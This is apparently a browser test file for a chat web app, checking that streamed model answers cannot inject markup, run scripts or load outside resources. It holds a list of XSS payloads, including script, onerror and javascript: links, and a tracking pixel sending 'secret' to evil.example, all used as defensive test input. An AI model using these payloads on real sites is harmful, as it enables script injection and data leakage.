// A model's text can do nothing: no script, no request, no element that the page does not know.
import assert from "node:assert/strict";
import { cp, mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { answers, ask, emu, finished, openBrowser, openPage, root, Server, signUp } from "./stage.mjs";

let server, browser;
before(async () => {
  server = await Server.start();
  browser = await openBrowser();
});
after(async () => {
  await browser?.close();
  await server?.end();
});

const hostile = [
  "<script>window.pwned = 1</script>", "<img src=x onerror='window.pwned = 1'>", "![pixel](https://evil.example/pixel.png?q=secret)",
  "[click](javascript:window.pwned=1)", "[click](data:text/html,<script>parent.pwned=1</script>)", "<svg onload='window.pwned = 1'></svg>",
  "<iframe src='https://evil.example'></iframe>", "<style>body{background:url(https://evil.example/bg)}</style>", "<link rel=stylesheet href=https://evil.example/a.css>",
  "$\\href{javascript:window.pwned=1}{x}$ and $\\includegraphics{https://evil.example/i.png}$ and $\\htmlStyle{background:url(https://evil.example/h)}{x}$",
  "```html\n<img src=https://evil.example/code.png onerror='window.pwned = 1'>\n```", "[fine](https://example.org/ok)", "The end.",
].join("\n\n");

test("hostile text does nothing and loads nothing", async () => {
  const { page, context, strangers, complaints } = await openPage(browser, server.url);
  await signUp(page);
  await page.evaluate(() => {
    window.violations = [];
    addEventListener("securitypolicyviolation", (event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  await ask(page, `Be bad ${emu({ say: hostile, chunks: 120, delay_us: 2000 })}`);
  await finished(page, 1);
  const answer = answers(page).first();
  await answer.locator(".katex").first().waitFor();
  await answer.locator(".hl-name, .hl-tag").first().waitFor();
  assert.match(await answer.innerText(), /<script>window\.pwned = 1<\/script>/, "it is shown as text");
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  const answerHtml = answer.locator(".answer");
  assert.equal(await answerHtml.locator("script, img, iframe, style, link, object, embed, form, input").count(), 0);
  const addresses = await answerHtml.locator("a").evaluateAll((links) => links.map((link) => link.href));
  assert.ok(addresses.includes("https://example.org/ok"));
  for (const address of addresses) assert.match(address, /^https:/);
  const handlers = await answerHtml.evaluate((element) => [...element.querySelectorAll("*")].flatMap((each) => each.getAttributeNames()).filter((name) => name.startsWith("on")));
  assert.deepEqual(handlers, []);
  assert.deepEqual(strangers, []);
  assert.deepEqual(await page.evaluate(() => window.violations), [], "nothing even tried");
  assert.deepEqual(complaints, []);
  await context.close();
});

test("code that was made to stop the highlighter stays plain", async () => {
  const { page, context } = await openPage(browser, server.url);
  await signUp(page);
  // Its first words would be coloured, were the rest not as long as it is.
  const code = `int x = 1; ${"a b<c> ".repeat(400)}`;
  await ask(page, `Code ${emu({ say: `\`\`\`csharp\n${code}\n\`\`\`\n\n\`\`\`csharp\nint a = 1;\n\`\`\`` })}`);
  await finished(page, 1);
  const blocks = answers(page).first().locator("pre code");
  await blocks.nth(1).locator("[class^='hl-']").first().waitFor();
  assert.equal(await blocks.first().locator("span").count(), 0);
  assert.equal((await blocks.first().textContent()).trim(), code.trim());
  await context.close();
});

test("the page's policy lets no string become markup or script", async () => {
  const { page, context } = await openPage(browser, server.url);
  const outcome = await page.evaluate(() => {
    const attempt = (act) => {
      try {
        act();
        return "done";
      } catch (error) {
        return error.name;
      }
    };
    return [
      attempt(() => (document.createElement("div").innerHTML = "<b>x</b>")),
      attempt(() => trustedTypes.createPolicy("mine", { createHTML: (text) => text })),
    ];
  });
  assert.deepEqual(outcome, ["TypeError", "TypeError"]);
  await context.close();
});

test("without the libraries the page works in plain text", { skip: process.env.FYNQ_URL && "needs a server of its own" }, async () => {
  const bare = await mkdtemp(join(tmpdir(), "fynq-bare-"));
  const from = join(root, "static");
  await cp(from, bare, { recursive: true, filter: (source) => !source.startsWith(join(from, "vendor")) });
  const plain = await Server.start({ staticDir: bare });
  const { page, context } = await openPage(browser, plain.url);
  await signUp(page);
  await ask(page, `Plain ${emu({ say: "Some **bold** text.\n\n- one\n- <b>two</b>", chunks: 10 })}`);
  assert.equal(await finished(page, 1), "Some **bold** text.\n\n- one\n- <b>two</b>");
  await page.reload();
  assert.equal(await finished(page, 1), "Some **bold** text.\n\n- one\n- <b>two</b>");
  await context.close();
  await plain.end();
  await rm(bare, { recursive: true });
});
